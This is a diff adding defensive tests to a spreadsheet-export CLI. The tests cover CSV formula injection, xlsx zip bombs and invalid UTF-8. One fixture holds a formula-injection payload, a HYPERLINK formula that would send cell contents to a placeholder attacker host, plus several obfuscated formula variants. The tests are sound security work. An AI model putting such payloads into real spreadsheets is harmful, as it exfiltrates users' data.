@@ -2,9 +2,12 @@ import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
+import Papa from 'papaparse';
+import { isFormulaLike } from '../../domain/formula';
 import { runCliInMemory } from '../run-in-memory';
 import { TEMPLATE_PACK } from '../../../scripts/template-pack';
 import { makeAnswer, makePack } from '../../../tests/packs/make-pack';
+import { makeZip } from '../../../tests/packs/make-zip';
 import { writeSheet } from './pack-sheet';
 
 const run = (args: string[], cwd: string) => runCliInMemory(args, { cwd });
@@ -29,12 +32,48 @@ const tricky = makePack({
   ],
 });
 
+// Security review finding 13: pack text that a spreadsheet would run as a formula.
+const formulas = makePack({
+  description: '=HYPERLINK("https://evil.example?"&A1,"x")',
+  answers: [
+    makeAnswer('a-formula', {
+      review: {
+        status: 'approved',
+        reviewer: '@SUM(1+1)',
+        reviewedAt: '2026-01-02',
+        validUntil: '2026-12-31',
+        legalBasis: ['\u200b=1+1', '\uff1d1+1', "'=already quoted"],
+      },
+    }),
+  ],
+});
+
+describe('pack to-sheet escapes formulas (finding 13)', () => {
+  it('writes no cell a spreadsheet would run, and pack build restores the text', async () => {
+    const dir = await mkdtemp(join(tmpdir(), 'oa-sheet-'));
+    await writeFile(join(dir, 'f.json'), JSON.stringify(formulas));
+    expect((await run(['pack', 'to-sheet', 'f.json', '-o', 'f.csv'], dir)).code).toBe(0);
+    const csv = await readFile(join(dir, 'f.csv'), 'utf8');
+    const cells = Papa.parse<string[]>(csv).data.flat();
+    expect(cells.filter((cell) => isFormulaLike(cell))).toEqual([]);
+    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example?""&A1,""x"")"`);
+    expect(csv).toContain("'@SUM(1+1)");
+    const built = await run(
+      ['pack', 'build', 'f.csv', '-o', 'back.json', '--today', '2026-03-01'],
+      dir,
+    );
+    expect(built.code).toBe(0);
+    expect(JSON.parse(await readFile(join(dir, 'back.json'), 'utf8'))).toEqual(formulas);
+  });
+});
+
 describe('pack build / pack to-sheet', () => {
   it.each(['xlsx', 'csv'])('round-trips packs through .%s to an equal pack', async (ext) => {
     const dir = await mkdtemp(join(tmpdir(), 'oa-sheet-'));
     for (const [name, pack] of [
       ['template', TEMPLATE_PACK],
       ['tricky', tricky],
+      ['formulas', formulas],
     ] as const) {
       await writeFile(join(dir, `${name}.json`), JSON.stringify(pack));
       expect(
@@ -113,5 +152,33 @@ describe('pack validate', () => {
     expect(failed.err).toBe(
       'answers[1].id: duplicate id "minimum-wage-basics", already used by answers[0]\n',
     );
+  });
+});
+
+describe('pack build refuses an xlsx zip bomb before reading it (finding 14)', () => {
+  it('names the unpacked size', async () => {
+    const dir = await mkdtemp(join(tmpdir(), 'oa-sheet-'));
+    // The directory claims 2 GB unpacked; nothing that large is ever inflated.
+    const bomb = makeZip([
+      { name: 'xl/worksheets/sheet1.xml', data: new Uint8Array(1000), claim: 2_000_000_000 },
+    ]);
+    await writeFile(join(dir, 'bomb.xlsx'), bomb);
+    const result = await run(['pack', 'build', 'bomb.xlsx', '-o', 'out.json'], dir);
+    expect(result.code).toBe(1);
+    expect(result.err).toMatch(/bomb\.xlsx: not read as a workbook: it would unpack to 1907 MB/);
+  });
+});
+
+describe('invalid UTF-8 is refused, not replaced (finding 17)', () => {
+  it('pack validate names the first bad byte', async () => {
+    const dir = await mkdtemp(join(tmpdir(), 'oa-utf8-'));
+    const text = Buffer.from(JSON.stringify(makePack()));
+    await writeFile(
+      join(dir, 'bad.json'),
+      Buffer.concat([text.subarray(0, 200), Buffer.from([0xff, 0xfe]), text.subarray(200)]),
+    );
+    const result = await run(['pack', 'validate', 'bad.json'], dir);
+    expect(result.code).toBe(1);
+    expect(result.err).toMatch(/bad\.json is not valid UTF-8 text \(at byte 200\)/);
   });
 });
